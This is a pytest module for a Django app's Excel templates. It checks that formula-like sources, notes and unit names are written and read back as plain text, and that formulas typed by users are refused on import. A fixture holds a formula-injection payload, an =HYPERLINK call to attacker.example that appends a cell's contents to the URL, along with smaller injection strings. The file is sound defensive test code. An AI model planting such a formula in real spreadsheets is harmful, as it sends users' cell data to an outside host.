"""Text that looks like a formula: written to the template as text, read back as text.

A source typed as ``=HYPERLINK(...)`` must not become a live formula in the district's
template, and the district's untouched template must still be accepted on import.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from ntm.audit.models import AuditEntry
from ntm.audit.services import Actor
from ntm.criteria.services import load_criteria_sets
from ntm.testing import COMMUNE_SET, make_ky_anh, write_sets
from ntm.values import services
from ntm.values.models import IndicatorValue
from ntm.workbooks.codes import CODES_SHEET
from ntm.workbooks.importing import import_workbook, preview_workbook
from ntm.workbooks.tests.workbook_helpers import (
    OBSERVED_ON,
    column_index,
    fill,
    find_row,
    template_bytes,
)

pytestmark = pytest.mark.django_db

CLI = Actor(user=None, channel="cli")
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B5,"Nguồn")'
#: (unit code, indicator code) -> (source, note) stored for Kỳ Lạc on the period's last day.
TEXTS = {
    ("18850", "10"): (HYPERLINK, "=1+2"),
    ("18850", "1.1"): ("+1", "-1"),
    ("18850", "2.1"): ("@SUM(A1)", "=SUM(A1:A3)"),
}
UNIT_NAME = "=Kỳ Tây"


@pytest.fixture
def ky_anh(tmp_path):
    load_criteria_sets(write_sets(tmp_path / "sets", COMMUNE_SET))
    units = make_ky_anh()
    units["ky_tay"].name = UNIT_NAME
    units["ky_tay"].save()
    figures = {"10": {"value": 40.0}, "1.1": {"is_met": True}, "2.1": {"numerator": 8.0,
               "denominator": 10.0}}  # fmt: skip
    for (_unit, code), (source, note) in TEXTS.items():
        services.record_value(
            unit=units["ky_lac"], indicator_key=f"test-commune:{code}", observed_on=OBSERVED_ON,
            source=source, note=note, **figures[code],
        )  # fmt: skip
    return units


def district_template(units) -> bytes:
    communes = [units["ky_lac"], units["ky_tay"], units["lam_hop"]]
    return template_bytes(communes, parent=units["district"])


def formula_cells(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_sources_notes_and_unit_names_are_text_cells_in_the_template(ky_anh):
    workbook = load_workbook(io.BytesIO(district_template(ky_anh)))
    assert formula_cells(workbook) == []
    sheet = workbook.worksheets[0]
    index = column_index()
    for (unit_code, code), (source, note) in TEXTS.items():
        row = find_row(sheet, unit_code, code)
        for key, text in (("source", source), ("note", note)):
            cell = sheet.cell(row, index[key] + 1)
            assert (cell.value, cell.data_type) == (text, "s"), (code, key)
    status = sheet.cell(find_row(sheet, "18850", "10"), index["status"] + 1)
    assert (status.value, status.fill.fgColor.rgb) == ("Đạt", "00D8F0DC")  # styles kept
    name = sheet.cell(find_row(sheet, "18793", "10"), index["unit_name"] + 1)
    assert (name.value, name.data_type) == (UNIT_NAME, "s")
    codes = [c for row in workbook[CODES_SHEET].iter_rows() for c in row if c.value == UNIT_NAME]
    assert [c.data_type for c in codes] == ["s"]


def test_the_untouched_template_with_such_texts_is_accepted_and_changes_nothing(ky_anh):
    content = district_template(ky_anh)
    before = list(IndicatorValue.objects.order_by("id").values_list("id", "source", "note"))
    audited = AuditEntry.objects.count()
    preview = preview_workbook(content, user=None)
    assert preview.problems == []
    assert (preview.counts["new"], preview.counts["changed"], preview.counts["unchanged"]) == (
        0, 0, 3,
    )  # fmt: skip
    result = import_workbook(content, actor=CLI, filename="ky-anh.xlsx")
    assert result.applied and result.problems == []
    assert list(IndicatorValue.objects.order_by("id").values_list("id", "source", "note")) == before
    assert AuditEntry.objects.count() == audited


def test_a_formula_a_user_types_into_a_source_is_still_refused(ky_anh):
    # openpyxl, like Excel, stores a typed "=..." as a formula cell.
    content = fill(district_template(ky_anh), {("18793", "10"): {"value": 30, "source": "=1+2"}})
    result = preview_workbook(content, user=None)
    assert [(p.location.column, p.location.shown, p.message) for p in result.problems] == [
        ("K", "=1+2", "Ô chứa công thức; hãy nhập giá trị (khi dán, dùng Dán đặc biệt → Giá trị).")
    ]
